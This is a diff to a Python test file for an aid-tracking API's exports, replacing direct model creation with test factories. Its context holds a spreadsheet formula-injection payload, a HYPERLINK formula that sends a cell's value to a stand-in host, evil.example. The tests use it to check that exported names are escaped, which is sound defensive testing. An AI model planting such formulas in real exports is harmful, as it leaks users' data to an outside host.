@@ -18,9 +18,9 @@ from aidtrack.api.renderers import FORMULA_STARTS, escape_formula
 from aidtrack.areas.services import area_create
 from aidtrack.geo.models import AdminArea, AdminLevel
 from aidtrack.incidents.services import incident_review
-from aidtrack.orgs.models import Organization, Party
 from aidtrack.violence.models import ConflictEvent
 from tests.api.conftest import report
+from tests.factories import OrganizationFactory, PartyFactory
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 # Each breaks a line its own way before a formula; the last two also break lines for splitlines() readers.
@@ -113,8 +113,8 @@ def test_a_control_character_in_a_field_does_not_break_the_workbook(world, clien
 def hostile_everywhere(world, site_admin):
     """A hostile name in a record of every list the API exports."""
     for n, hostile in enumerate(HOSTILE):
-        Organization.objects.create(name=f"{hostile} {n}", acronym=hostile[:30], kind="ingo")
-        Party.objects.create(name=f"{hostile} {n}", short_name=hostile[:60], kind="state_forces")
+        OrganizationFactory(name=f"{hostile} {n}", acronym=hostile[:30])
+        PartyFactory(name=f"{hostile} {n}", short_name=hostile[:60])
         AdminArea.objects.create(
             pcode=f"C9{n:03d}", level=AdminLevel.COMMUNITY, name_en=hostile, parent=world.subdistrict
         )
